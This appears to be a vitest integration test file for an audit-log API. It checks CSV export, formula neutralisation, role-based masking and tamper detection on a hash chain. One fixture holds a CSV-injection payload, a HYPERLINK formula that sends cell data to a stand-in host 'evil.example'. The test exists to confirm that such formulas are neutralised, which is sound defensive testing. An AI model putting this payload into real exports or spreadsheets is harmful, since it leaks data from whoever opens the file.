import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connect, type Connection } from '../../src/db/connect.ts';
import { testEngines } from '../support/engines.ts';
import { startTestServer } from '../support/kedang.ts';
import { apiClient } from '../support/http-client.ts';
import { openSnapshot } from '../support/db-snapshot.ts';
import { expectApiError, expectInvalid } from '../support/api-assertions.ts';

/** RFC 4180 with quoted cells that may hold commas, quotes and line breaks; lines end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell || row.length) throw new Error(`CSV does not end with CRLF: ${JSON.stringify(text.slice(-40))}`);
  return rows;
}

const evilName = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';

/** The audit viewer's API: export, hash-chain verification, who may see either. */
describe.each(testEngines())('audit log over HTTP on %s', (engine) => {
  let server: Awaited<ReturnType<typeof startTestServer>>;
  let admin: ReturnType<typeof apiClient>;
  let adminCookie: string;
  let snapshot: ReturnType<typeof openSnapshot>;
  let db: Connection;
  let customerId: number;

  const anon = () => apiClient(server.url);
  async function userClient(username: string, role: string) {
    const password = `${[...username].reverse().join('')}-pass-1`; // a password may not contain the user name
    const created = await admin.post('/api/v1/users', { username, displayName: username, password, role });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const client = anon();
    const signedIn = await client.signIn(username, password);
    return { client, cookie: (signedIn.headers.get('set-cookie') ?? '').split(';')[0] ?? '' };
  }
  const download = async (query: string, cookie = adminCookie) => {
    const res = await fetch(`${server.url}/api/v1/audit/export?${query}`, { headers: { cookie } });
    return { res, bytes: new Uint8Array(await res.arrayBuffer()) };
  };
  const csvOf = (bytes: Uint8Array) => parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.subarray(3)));

  beforeAll(async () => {
    server = await startTestServer(engine);
    snapshot = openSnapshot(server.db);
    db = connect({ databaseUrl: server.db.config.databaseUrl, sqlitePath: server.db.config.sqlitePath, poolSize: 2 });
    admin = apiClient(server.url);
    adminCookie = ((await admin.signIn()).headers.get('set-cookie') ?? '').split(';')[0] ?? '';
    const created = await admin.post('/api/v1/customers', { kind: 'individual', name: evilName, mobile: '13800138000' });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    customerId = created.body.id;
    const updated = await admin.patch(`/api/v1/customers/${customerId}`, { version: created.body.version, name: '@SUM(1+1)', notes: '-2+3' });
    expect(updated.status, JSON.stringify(updated.body)).toBe(200);
    expect((await admin.post('/api/v1/customers', { kind: 'organization', name: '无关公司' })).status).toBe(201);
  });
  afterAll(async () => {
    await db?.close();
    await snapshot?.close();
    await server?.close();
  });

  describe('export', () => {
    it('streams UTF-8 CSV with a BOM, a header row, one line per changed field and formulas neutralised', async () => {
      const { res, bytes } = await download(`format=csv&customerId=${customerId}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="kedang-audit-\d{14}\.csv"$/);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const [header, ...rows] = csvOf(bytes);
      expect(header).toEqual(['编号 ID', '时间 Time (UTC)', '操作人编号 Actor ID', '操作人 Actor', '操作 Action', '对象类型 Entity type', '对象编号 Entity ID', '客户编号 Customer ID', '字段 Field', '修改前 Before', '修改后 After', '详情 Meta']);
      for (const r of rows) expect(r).toHaveLength(header?.length ?? 0);
      const cell = (action: string, field: string, column: number) => rows.find((r) => r[4] === action && r[8] === field)?.[column];
      expect(cell('customer.created', 'name', 10)).toBe(`'${evilName}`);
      expect(cell('customer.updated', 'name', 9)).toBe(`'${evilName}`);
      expect(cell('customer.updated', 'name', 10)).toBe("'@SUM(1+1)");
      expect(cell('customer.updated', 'notes', 10)).toBe("'-2+3");
      expect(cell('customer.created', 'mobile', 10)).toBe('13800138000');
      // no cell of the file starts a formula; every line is about this customer, newest first
      for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      expect(new Set(rows.map((r) => r[7]))).toEqual(new Set([String(customerId)]));
      const ids = rows.map((r) => Number(r[0]));
      expect(ids).toEqual([...ids].sort((a, b) => b - a));
      expect(rows.map((r) => r[3])).toContain('admin');
    });

    it('is audited with its filters and row count before the first row leaves, and leaves itself out', async () => {
      const { bytes } = await download(`customerId=${customerId}&action=customer.updated`);
      const rows = csvOf(bytes).slice(1);
      expect(rows.every((r) => r[4] === 'customer.updated')).toBe(true);
      const exported = await admin.get('/api/v1/audit?action=audit.exported&pageSize=1');
      expect(exported.body.items[0]).toMatchObject({ actorName: 'admin', entityType: 'audit', meta: { format: 'csv', filters: { customerId, action: 'customer.updated' }, rowCount: new Set(rows.map((r) => r[0])).size } });

      const all = csvOf((await download('')).bytes).slice(1);
      const newest = Math.max(...all.map((r) => Number(r[0])));
      const lastExport = (await admin.get('/api/v1/audit?action=audit.exported&pageSize=1')).body.items[0];
      expect(lastExport.id).toBeGreaterThan(newest);
      expect(lastExport.meta).toEqual({ format: 'csv', filters: {}, rowCount: new Set(all.map((r) => r[0])).size });
    });

    it('filters by who, what and when like the list', async () => {
      const list = await admin.get(`/api/v1/audit?actorId=${(await admin.get('/api/v1/auth/me')).body.user.id}&entityType=customer&from=2000-01-01&to=2999-12-31&pageSize=200`);
      const rows = csvOf((await download(`actorId=${list.body.items[0].actorId}&entityType=customer&from=2000-01-01&to=2999-12-31`)).bytes).slice(1);
      expect([...new Set(rows.map((r) => Number(r[0])))]).toEqual(list.body.items.map((e: { id: number }) => e.id));
      expect(csvOf((await download('from=2999-01-01')).bytes)).toHaveLength(1);
    });

    it('answers bad filters with 400 naming them', async () => {
      expectInvalid(await admin.get('/api/v1/audit/export?format=xlsx'), 'format');
      expectInvalid(await admin.get('/api/v1/audit/export?customerId=abc'), 'customerId');
      expectInvalid(await admin.get('/api/v1/audit/export?page=2'), 'page');
    });

    it('masks sensitive values for an auditor whose role masks them', async () => {
      const { cookie } = await userClient('shenji', 'auditor');
      const rows = csvOf((await download(`customerId=${customerId}&action=customer.created`, cookie)).bytes).slice(1);
      expect(rows.find((r) => r[8] === 'mobile')?.[10]).toBe('138****8000');
      const listed = await apiClient(server.url).raw('GET', `/api/v1/audit?customerId=${customerId}&action=customer.created`, undefined, { headers: { cookie } });
      expect(listed.body.items[0].changes).toContainEqual({ field: 'mobile', before: null, after: '138****8000' });
    });

    it('refuses a sales user with 403, writing nothing', async () => {
      const { client, cookie } = await userClient('xiaoshou', 'sales');
      const before = await snapshot.counts();
      const { res, bytes } = await download(`customerId=${customerId}`, cookie);
      expect(res.status).toBe(403);
      expect(JSON.parse(new TextDecoder().decode(bytes)).error.code).toBe('FORBIDDEN');
      expectApiError(await client.get('/api/v1/audit/verify'), 403, 'FORBIDDEN');
      expectApiError(await client.get('/api/v1/audit'), 403, 'FORBIDDEN');
      expect(await snapshot.counts()).toEqual(before);
    });
  });

  describe('hash chain', () => {
    it('keeps prevHash and hash out of the list and the customer history', async () => {
      const list = await admin.get('/api/v1/audit?pageSize=200');
      const history = await admin.get(`/api/v1/customers/${customerId}/history`);
      for (const e of [...list.body.items, ...history.body.items]) {
        expect(Object.keys(e).sort()).toEqual(['action', 'actorId', 'actorName', 'at', 'changes', 'customerId', 'entityId', 'entityType', 'id', 'meta']);
      }
    });

    it('verifies intact, names an altered entry after tampering, and is intact again once restored', async () => {
      const total = await snapshot.count('audit_entries');
      const intact = await admin.get('/api/v1/audit/verify');
      expect(intact.status).toBe(200);
      expect(intact.body).toEqual({ intact: true, entries: total, lastId: expect.any(Number), lastHash: expect.stringMatching(/^[0-9a-f]{64}$/) });

      const target = (await admin.get(`/api/v1/audit?customerId=${customerId}&action=customer.updated`)).body.items[0] as { id: number; at: string };
      await sql`update audit_entries set action = 'customer.viewed' where id = ${target.id}`.execute(db.db);
      const broken = await admin.get('/api/v1/audit/verify');
      expect(broken.status).toBe(200);
      expect(broken.body).toMatchObject({ intact: false, problem: { kind: 'altered', entryId: target.id, at: target.at, action: 'customer.viewed', previousId: expect.any(Number) } });
      expect(broken.body.entries).toBeGreaterThan(0);

      await sql`update audit_entries set action = 'customer.updated' where id = ${target.id}`.execute(db.db);
      expect((await admin.get('/api/v1/audit/verify')).body).toMatchObject({ intact: true });
    });

    it('chains sign-in failures and successes like every other entry', async () => {
      expectApiError(await anon().raw('POST', '/api/v1/auth/sign-in', { username: 'admin', password: 'wrong-pass-123' }), 401);
      expectApiError(await anon().raw('POST', '/api/v1/auth/sign-in', { username: 'ghost', password: 'wrong-pass-123' }), 401);
      await anon().signIn();
      const actions = (await admin.get('/api/v1/audit?entityType=user&pageSize=3')).body.items.map((e: { action: string }) => e.action);
      expect(actions).toEqual(['user.signed_in', 'user.sign_in_failed', 'user.sign_in_failed']);
      expect((await admin.get('/api/v1/audit/verify')).body).toMatchObject({ intact: true });
    });
  });
});
